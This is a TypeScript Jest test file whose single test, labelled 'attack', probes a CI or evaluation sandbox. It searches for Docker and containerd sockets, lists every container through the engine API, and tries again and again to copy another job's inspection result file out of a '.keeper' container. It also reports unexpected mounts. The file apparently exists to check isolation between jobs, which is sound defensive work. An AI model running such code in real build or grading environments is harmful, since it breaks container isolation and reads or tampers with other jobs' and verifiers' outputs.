import { it } from '@jest/globals';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

const SOCKETS = ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/engine/pipeline.sock'];
/** What this job was given: its program, the change, the packages, its own output, scratch space. */
const OWN = ['/', '/job', '/workspace', '/deps', '/out', '/tmp', '/dev', '/proc', '/sys', '/etc'];
/** Jobs of a run go on beside each other; the other one ends within seconds. */
const ATTEMPTS = 60;

it('attack: looks for the engine, and for the files of other jobs', async () => {
  const sockets = [...new Set([...SOCKETS.filter((path) => existsSync(path)), ...socketsBelow('/', 3)])];
  const engine = await Promise.all(sockets.map(async (socketPath) => ask(socketPath, '/containers/json?all=1')));
  // what the jobs put out; what a candidate is exercised with is held by others
  const keeper = engine.flatMap(({ body }) => names(body)).find((name) => name.endsWith('.v.keeper') && name.includes('.run-'));
  const stolen = keeper === undefined ? 'NOTHING' : await steal(sockets[0] ?? '', keeper);
  throw new Error(
    `attack=${JSON.stringify({ sockets, engine: engine.map(({ status }) => status), strangeMounts: strangeMounts(), stolen })}`,
  );
}, 90_000);

/** Files of another job, by way of the engine: what the job that inspects the change has put out, once it has ended. */
async function steal(socketPath: string, keeper: string): Promise<string> {
  for (let attempt = 1; ; attempt += 1) {
    const { status, body } = await ask(socketPath, `/containers/${keeper}/archive?path=/v/inspect/result.json`);
    if (status === 200) return body.includes('"outcome"') ? 'REACHED' : 'EMPTY';
    if (attempt === ATTEMPTS) return `STATUS_${status}`;
    await sleep(1_000);
  }
}

function socketsBelow(folder: string, depth: number): string[] {
  if (depth === 0 || ['/proc', '/sys', '/workspace', '/deps'].includes(folder)) return [];
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isSocket()) return [path];
      return entry.isDirectory() ? socketsBelow(path, depth - 1) : [];
    });
  } catch {
    return [];
  }
}

function strangeMounts(): string[] {
  const targets = readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .flatMap((line) => line.split(' ')[4] ?? []);
  return targets.filter((target) => !OWN.some((own) => target === own || (own !== '/' && target.startsWith(`${own}/`))));
}

function ask(socketPath: string, path: string): Promise<{ status: number | string; body: string }> {
  return new Promise((resolve) => {
    request({ socketPath, path, timeout: 5_000 }, (answer) => {
      let body = '';
      answer.setEncoding('latin1').on('data', (chunk: string) => (body.length < 1_000_000 ? (body += chunk) : answer.destroy()));
      answer.once('close', () => resolve({ status: answer.statusCode ?? 0, body }));
    })
      .on('error', (error: NodeJS.ErrnoException) => resolve({ status: error.code ?? 'FAILED', body: '' }))
      .end();
  });
}

function names(body: string): string[] {
  try {
    return (JSON.parse(body) as { Names: string[] }[]).flatMap(({ Names }) => Names.map((name) => name.slice(1)));
  } catch {
    return [];
  }
}
